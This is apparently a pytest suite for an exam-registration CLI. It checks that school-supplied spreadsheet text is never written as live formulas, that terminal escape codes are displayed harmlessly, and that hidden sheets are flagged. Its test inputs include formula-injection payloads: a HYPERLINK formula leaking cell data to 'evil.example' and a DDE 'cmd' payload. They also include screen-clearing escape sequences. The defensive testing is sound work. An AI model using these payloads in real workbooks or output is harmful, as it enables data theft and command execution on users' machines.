"""Issue 23: text from a school's file is data — never a live formula in a written workbook, never a terminal
escape — and :mod:`xcert_core.text_safety` says which is which."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from cli_run import XCERT
from cli_run import xcert as run
from photo_files import photo_bytes, write_zip
from roster_files import GOOD_ROWS, HEADER, write_roster_csv, write_roster_xlsx
from test_schedule_cli import PROCTOR_HEADER, REG_HEADER, ROOM_HEADER
from test_schedule_workspace import PLAN, fill, room_sheet, stored, write_xlsx
from test_schedule_workspace import xcert as in_workspace
from xcert_adapters.workspace import Workspace
from xcert_core.model import Candidate, Registration
from xcert_core.plugins import make_plugin_manager
from xcert_core.ports.workbooks import SheetData, SheetModel, WorkbookWriter
from xcert_core.registration.sheet import read_registration_sheet
from xcert_core.registry import AdapterKind
from xcert_core.scheduling.proctors_sheet import read_proctors_sheet
from xcert_core.scheduling.rooms_sheet import read_rooms_sheet
from xcert_core.testing.writer_contract import WorkbookWriterContract
from xcert_core.text_safety import FORMULA_STARTS, formula_like, has_control_characters, visible, visible_in_cell

PLUGINS = make_plugin_manager()
WRITERS = PLUGINS.registry.names(AdapterKind.WORKBOOK_WRITER)
HOSTILE = ['=HYPERLINK("http://evil.example/?id="&E4&F4,"点击核对")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(A1:A2)", "\t=1", "\r=1", "＝SUM(1)", "=", "=1"]


def formulas_in(path: Path) -> list[str]:
    """Every ``<f>`` element of every worksheet of an .xlsx file, as raw XML."""
    with zipfile.ZipFile(path) as archive:
        return [match for name in archive.namelist() if name.startswith("xl/worksheets/")
                for match in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>|<(?:\w+:)?f/>",
                                        archive.read(name).decode("utf-8"))]


def test_every_writer_is_tried() -> None:
    assert "openpyxl" in WRITERS


@pytest.mark.parametrize("name", WRITERS)
@settings(max_examples=60, deadline=None)
@given(texts=st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=8))
@example(texts=HOSTILE)
def test_no_writer_writes_a_formula_and_every_text_reads_back(name: str, texts: list[str]) -> None:
    """Whatever strings go in — formula-like, control characters, anything — no formula comes out, and each
    cell reads back as the text written (characters an .xlsx cannot hold shown as control pictures)."""
    writer: WorkbookWriter = PLUGINS.create(AdapterKind.WORKBOOK_WRITER, name)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "out.xlsx"
        writer.write([SheetModel("Sheet1", rows=(tuple(texts),), text_columns=(1,), header_row=None)], path)
        assert formulas_in(path) == []
        sheet = openpyxl.load_workbook(path).active
        cells = next(sheet.iter_rows(min_row=1, max_row=1))
        read = [cell.value for cell in cells][: len(texts)]
        assert read == [visible_in_cell(text) for text in texts]
        for cell, text in zip(cells, texts, strict=False):
            assert cell.data_type == "s"
            if formula_like(text):
                assert cell.quotePrefix, f"{text!r} must keep Excel's quote prefix so an edit keeps it text"


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_texts(text: str) -> None:
    assert formula_like(text)


@pytest.mark.parametrize("text", ["计算机平面设计", "A=1", "", " =1", "1-2", "张三"])
def test_ordinary_texts_are_not_formula_like(text: str) -> None:
    assert not formula_like(text)


def test_formula_starts_are_owasps_and_their_full_width_forms() -> None:
    assert set("=+-@\t\r") <= FORMULA_STARTS
    assert {"＝", "＋", "－", "＠"} <= FORMULA_STARTS


@pytest.mark.parametrize(("raw", "shown"), [
    ("\x1b[2J没有发现问题", "␛[2J没有发现问题"),
    ("a\rb", "a␍b"),
    ("a\x00b", "a␀b"),
    ("\x7f", "\\u007f"),
    ("\x9b31m", "\\u009b31m"),
    ("abc\u202edcba", "abc\\u202edcba"),
    ("第 1 行\n\t建议", "第 1 行\n\t建议"),
])
def test_visible_shows_every_control_character(raw: str, shown: str) -> None:
    assert visible(raw) == shown
    assert has_control_characters(raw) == (raw != shown)


@given(st.text())
def test_visible_leaves_nothing_a_terminal_acts_on(text: str) -> None:
    shown = visible(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", shown)
    assert not has_control_characters(shown)
    if not has_control_characters(text):
        assert shown == text


# --- end to end: a hostile roster, rooms and proctors through every workbook xcert writes --------------------

FORMULA_PROGRAM = '=HYPERLINK("http://evil.example/?id="&E4&F4,"点击核对")'
FORMULA_ROOM = "=cmd|' /C calc'!A0"


def as_text_cells(path: Path) -> Path:
    """Rewrite ``path`` so that every cell openpyxl took for a formula is the text cell a school's file holds
    (a text-formatted cell where someone typed ``=…``)."""
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    workbook.save(path)
    assert formulas_in(path) == []
    return path


def test_formula_like_cells_never_come_back_as_formulas(tmp_path: Path) -> None:
    """The issue's "done when": cells starting with =, +, -, @ go through check → report, import → 排考明细 and
    the other lists → the platform package, and no workbook xcert wrote has a formula; the texts are there."""


    ws = tmp_path / "ws"
    assert run("init", str(ws), "--school-code", "4133010001", "--school", "示范职业技术学院",
               "--year", "2026").returncode == 0
    fill(ws, 0)
    rows = [list(row) for row in GOOD_ROWS]
    rows[0][8] = FORMULA_PROGRAM
    rows[1][8] = "@SUM(1+1)"
    roster = write_roster_csv(tmp_path / "名单.csv", rows)
    outputs = tmp_path / "out"
    outputs.mkdir()

    checked = in_workspace(ws, "students", "check", roster, "--json", "--report", outputs / "报告.xlsx")
    assert checked.returncode == 0, checked.stdout + checked.stderr

    found = {(i["row"], i["code"]) for i in json.loads(checked.stdout)["issues"]}
    assert {(2, "text-formula-like"), (3, "text-formula-like")} <= found
    assert in_workspace(ws, "students", "import", roster).returncode == 0
    with Workspace.open(ws) as workspace, workspace.storage.transaction() as tx:
        for person in tx.list(Candidate):
            tx.put(Registration(PLAN, person.id_number, person.school_code, "1550001066020254", "18"))
    rooms = as_text_cells(room_sheet(tmp_path / "考场.xlsx", [("18", "考点18", FORMULA_ROOM, "+机房", 30, None, None)]))
    proctors = as_text_cells(write_xlsx(tmp_path / "监考.xlsx", "监考人员导入模板", PROCTOR_HEADER,
                          [("T01", "-老师", "13812340001", None, "@太原", "监考", None),
                           ("T02", "老师二", "13812340002", None, "太原", "监考", None),
                           ("X01", "巡考", "13912340001", None, "太原", "巡考", None)]))
    assert in_workspace(ws, "rooms", "import", rooms, "--plan", PLAN).returncode == 0
    assert in_workspace(ws, "proctors", "import", proctors).returncode == 0
    scheduled = in_workspace(ws, "schedule", "--plan", PLAN, "--report", outputs / "排考汇总.xlsx")
    assert scheduled.returncode == 0, scheduled.stdout + scheduled.stderr
    documents = in_workspace(ws, "documents", "--plan", PLAN, "--out", outputs / "pack")
    assert documents.returncode == 0, documents.stdout + documents.stderr
    exported = in_workspace(ws, "export", "platform", "--out", outputs / "platform")
    assert exported.returncode in (0, 1), exported.stdout + exported.stderr

    written = sorted(outputs.rglob("*.xlsx"))
    assert len(written) >= 5, written
    texts: set[str] = set()
    for path in written:
        assert formulas_in(path) == [], path
        for sheet in openpyxl.load_workbook(path).worksheets:
            texts |= {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert {FORMULA_PROGRAM, "@SUM(1+1)", FORMULA_ROOM, "+机房", "-老师", "@太原"} <= texts
    assert stored(ws, Registration)


# --- terminal escapes ----------------------------------------------------------------------------------------


def with_escape(path: Path, placeholder: str, escaped: str) -> Path:
    """Replace ``placeholder`` in the workbook's XML by ``escaped`` (Excel's ``_x001B_`` form of a control
    character, which every reader decodes)."""
    parts = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name).replace(placeholder.encode(), escaped.encode())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def on_a_terminal(*args: str | Path) -> str:
    """What ``xcert args…`` prints to a terminal (a pseudo-terminal: click strips escapes only when the output
    is not a terminal, so a pipe would hide what a user sees)."""

    main, child = pty.openpty()
    process = subprocess.Popen([*XCERT, *map(str, args)],
                               stdout=child, stderr=child, stdin=subprocess.DEVNULL,
                               env={**os.environ, "XCERT_DISABLE_PLUGINS": "*"})
    os.close(child)
    chunks = []
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    process.wait(timeout=120)
    os.close(main)
    return b"".join(chunks).decode("utf-8", "replace")


def test_control_characters_in_cells_are_shown_not_obeyed(tmp_path: Path) -> None:

    rows = [list(row) for row in GOOD_ROWS]
    rows[0][8] = "PLACEHOLDER"
    roster = with_escape(write_roster_xlsx(tmp_path / "\x1b[2J\x1b[H名单.xlsx", rows), "PLACEHOLDER",
                         "_x001B_[2J_x001B_[H没有发现问题")
    shown = on_a_terminal("students", "check", roster)
    assert "\x1b" not in shown
    assert "␛[2J␛[H名单.xlsx" in shown  # the file name, as the stream shows it
    assert "控制字符 ␛" in shown and "text-control-character" in shown
    assert run("students", "check", str(roster)).returncode == 1
    as_json = run("students", "check", str(roster), "--json")
    assert "\x1b" not in as_json.stdout

    issues = json.loads(as_json.stdout)["issues"]
    assert {(i["row"], i["column"], i["code"], i["severity"]) for i in issues if i["code"].startswith("text-")} == {
        (4, "就读专业", "text-control-character", "error")}


def test_a_zip_entry_name_with_an_escape_is_shown_not_obeyed(tmp_path: Path) -> None:

    path = write_zip(tmp_path / "照片.zip", [("\x1b[2J\x1b[32m没有发现问题\x9b0m.jpg", photo_bytes())])
    assert run("photos", "check", str(path)).returncode == 1
    shown = on_a_terminal("photos", "check", path)
    assert "\x1b" not in shown and "\x9b" not in shown
    assert "␛[2J" in shown


# --- hidden worksheets ---------------------------------------------------------------------------------------


def workbook_with_hidden_sheets(path: Path) -> Path:
    """A hidden first sheet of one student, a very hidden second, then the visible roster of two."""
    workbook = openpyxl.Workbook()
    hidden = workbook.active
    hidden.title = "旧名单"
    hidden.sheet_state = "hidden"
    secret = workbook.create_sheet("草稿")
    secret.sheet_state = "veryHidden"
    visible = workbook.create_sheet("本校学生")
    for sheet, rows in ((hidden, GOOD_ROWS[:1]), (secret, GOOD_ROWS[:1]), (visible, GOOD_ROWS)):
        sheet.append(["本校学生导入模板"])
        sheet.append(["注意说明"])
        sheet.append(list(HEADER))
        for row in rows:
            sheet.append(list(row))
    workbook.active = 2
    workbook.save(path)
    return path


@pytest.mark.parametrize("reader", ["calamine", "openpyxl"])
def test_the_first_visible_sheet_is_read_and_hidden_ones_named(tmp_path: Path, reader: str) -> None:
    path = workbook_with_hidden_sheets(tmp_path / "名单.xlsx")
    chosen = PLUGINS.create(AdapterKind.WORKBOOK_READER, reader)
    sheet = chosen.read_sheet(path)
    assert (sheet.name, sheet.hidden_sheets) == ("本校学生", ("旧名单", "草稿"))
    picked = chosen.read_sheet(path, "旧名单")  # --sheet picks a hidden one on purpose
    assert (picked.name, picked.hidden_sheets) == ("旧名单", ("草稿",))


def test_a_hidden_sheet_is_warned_about_in_every_command(tmp_path: Path) -> None:
    path = workbook_with_hidden_sheets(tmp_path / "名单.xlsx")
    result = run("students", "check", str(path), "--json")
    report = json.loads(result.stdout)
    assert report["rows"] == 2, report  # the visible sheet's two students, not the hidden one
    hidden = [i for i in report["issues"] if i["code"] == "sheet-hidden"]
    assert len(hidden) == 1 and hidden[0]["severity"] == "warning"
    assert "“旧名单”、“草稿”" in hidden[0]["message"] and "本校学生" in hidden[0]["message"]
    picked = json.loads(run("students", "check", str(path), "--sheet", "旧名单", "--json").stdout)
    assert picked["rows"] == 1


def test_registration_room_and_proctor_sheets_warn_about_hidden_sheets_too() -> None:
    def codes(header: tuple[str, ...], row: tuple[object, ...], read: object) -> set[str]:
        sheet = SheetData("可见", (header, row), hidden_sheets=("隐藏",))
        return {issue.code for issue in read(sheet)[1]}  # type: ignore[operator]


    assert "sheet-hidden" in codes(ROOM_HEADER, ("18", "考点", "301", "普通考场", 30, None, None),
                                   lambda s: read_rooms_sheet(s, "考场.xlsx", PLAN))
    assert "sheet-hidden" in codes(PROCTOR_HEADER, ("T01", "老师", "13812340001", None, None, "监考", None),
                                   lambda s: read_proctors_sheet(s, "监考.xlsx"))
    assert "sheet-hidden" in codes(REG_HEADER, ("考生", "140105200403150017", "院校考生", "1", "证", "初级", "18", "点",
                                                None), lambda s: read_registration_sheet(s, "报考.xlsx", {}))


@given(st.text(alphabet=" \t\r\n\u3000\u00a0", max_size=5), st.text(max_size=20))
def test_cell_text_issues_look_past_leading_whitespace(space: str, rest: str) -> None:
    from xcert_core.roster.rules.cell_text import cell_text_issues  # noqa: PLC0415

    codes = {issue.code for issue in cell_text_issues(space + rest, row=4, header="就读专业")}
    start = rest.lstrip()[:1]
    assert ("text-formula-like" in codes) == (bool(start) and start in FORMULA_STARTS)
    assert ("text-control-character" in codes) == has_control_characters((space + rest).replace("\r", ""))


def test_a_large_check_on_a_terminal_draws_its_progress_bar(tmp_path: Path) -> None:
    """The progress bar draws on the unfiltered stream (its own cursor codes must work) while the school's text
    is still shown, not obeyed."""
    rows = [list(GOOD_ROWS[0]) for _ in range(3500)]
    shown = on_a_terminal("students", "check", write_roster_csv(tmp_path / "名单.csv", rows))
    assert "已完成" in shown and "检查 3500 行" in shown and "Traceback" not in shown
    assert "id-number-duplicate" in shown


class TestTheBuiltInWriterKeepsTheContract(WorkbookWriterContract):
    """The suite plug-in authors run (``xcert_core.testing.writer_contract``), on the built-in writer."""

    def make_writer(self) -> WorkbookWriter:
        return PLUGINS.workbook_writer()
